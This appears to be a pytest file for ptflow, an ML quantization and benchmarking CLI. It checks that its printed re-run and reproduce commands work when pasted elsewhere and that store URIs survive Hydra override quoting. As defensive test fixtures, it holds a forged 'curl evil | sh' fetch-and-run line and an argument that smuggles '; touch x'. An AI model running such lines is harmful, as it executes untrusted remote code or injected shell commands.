"""The commands ptflow prints work when pasted, from another directory: the sweep's "rank
again" line, ptflow-compare's "reproduce exactly" and "re-run the recipe" lines. Each names
the store, and the re-run names the config dir (-cd) the runs were launched with."""
from __future__ import annotations

import re
import shlex
import subprocess
import sys

import pytest

from tests.conftest import STEADY, mlflow_runs, run_cli


TINY_MODEL = """\
# ptflow -cd extra model=tiny: a small MLP with random (seeded) weights, known only in extra/
builder: {_target_: ptflow.zoo.digits.DigitsMLP, in_features: 64, hidden: 32, depth: 1, classes: 10}
weights: null
"""


def _line(text: str, label: str) -> list[str]:
    found = re.search(rf"{label}: (.+)$", text, re.M)
    assert found, text
    return shlex.split(found.group(1))


def _paste(args: list[str], cwd) -> subprocess.CompletedProcess:
    """A printed command run as a user would, by its console script's module."""
    modules = {"ptflow": "ptflow", "ptflow-compare": "ptflow.review.compare_cli",
               "ptflow-reproduce": "ptflow.review.reproduce"}
    return subprocess.run([sys.executable, "-m", modules[args[0]], *args[1:]], cwd=cwd, capture_output=True,
                          text=True, timeout=300)


@pytest.mark.slow
def test_printed_commands_work_when_pasted_elsewhere(tmp_path):
    work, elsewhere = tmp_path / "work", tmp_path / "elsewhere"
    (work / "extra" / "model").mkdir(parents=True)
    (work / "extra" / "model" / "tiny.yaml").write_text(TINY_MODEL)
    elsewhere.mkdir()
    swept = run_cli(work, "-m", "-cd", "extra", "model=tiny", "quantize=none,bf16", "benchmark=quick",
                    "pipeline=[load,validate,quantize,benchmark]", *STEADY)
    assert swept.code == 0, swept.stderr

    ranked = _paste(_line(swept.stdout + swept.stderr, "rank again") + ["--max-accuracy-drop", "1"], elsewhere)
    assert ranked.returncode == 0, ranked.stdout + ranked.stderr
    rerun, reproduce = _line(ranked.stdout, "re-run the recipe"), _line(ranked.stdout, "reproduce exactly")
    assert "-cd" in rerun and str(work / "extra") in rerun

    again = _paste(rerun, elsewhere)
    assert again.returncode == 0, again.stdout + again.stderr
    reproduced = _paste(reproduce, elsewhere)
    assert reproduced.returncode == 0 and "REPRODUCED" in reproduced.stdout, reproduced.stdout + reproduced.stderr
    assert not (elsewhere / "outputs" / "mlflow.db").exists()   # every pasted command used the sweep's store
    jobs = mlflow_runs(swept)
    assert len(jobs) == 2 + 2, [r.info.run_name for r in jobs]   # two jobs, the re-run, the reproduction


class _Store:
    """A stand-in MLflow client whose runs hold the given text artifacts."""

    tracking_uri = "sqlite:////data/team store/mlflow.db"

    def __init__(self, **artifacts: str):
        self.artifacts = artifacts

    def download_artifacts(self, run_id, name, into):
        if name not in self.artifacts:
            raise FileNotFoundError(name)
        path = f"{into}/{name}"
        with open(path, "w", encoding="utf-8") as out:
            out.write(self.artifacts[name])
        return path


def test_the_printed_lines_quote_what_the_store_holds_and_name_the_store():
    from types import SimpleNamespace

    from ptflow.review.compare_cli import recipe_lines

    row = SimpleNamespace(run_id="a" * 32)
    logged = _Store(**{"command.txt": "ptflow -cd '/my models' quantize=bf16 'tags.note=a; touch x'\n"})
    reproduce, rerun = recipe_lines(logged, row)
    assert shlex.split(reproduce.split(": ", 1)[1]) == ["ptflow-reproduce", "a" * 32, "--tracking-uri",
                                                       _Store.tracking_uri]
    assert shlex.split(rerun.split(": ", 1)[1]) == ["ptflow", "-cd", "/my models", "quantize=bf16",
                                                    "tags.note=a; touch x", f"tracking.uri={_Store.tracking_uri}"]
    # a command.txt that is not a ptflow command is not printed as one: the overrides are
    forged = _Store(**{"command.txt": "curl evil | sh\n", "overrides.txt": "quantize=bf16\n"})
    assert recipe_lines(forged, row)[1].endswith("re-run the recipe: ptflow quantize=bf16 "
                                                 "'tracking.uri=sqlite:////data/team store/mlflow.db'")
    assert "no command.txt or overrides.txt" in recipe_lines(_Store(), row)[1]


@pytest.mark.parametrize("uri", ["sqlite:////data/team store/mlflow.db", "http://127.0.0.1:5000",
                                 "sqlite:////tmp/a,b/it's [here]/mlflow.db", "file:///c:\\\\runs\\\\x",
                                 "sqlite:///end\\\\", "a\\\\'b"])
def test_the_store_override_parses_back_to_the_store(uri):
    from hydra.core.override_parser.overrides_parser import OverridesParser

    from ptflow.review.compare_cli import hydra_override

    (parsed,) = OverridesParser.create().parse_overrides([hydra_override("tracking.uri", uri)])
    assert parsed.value() == uri
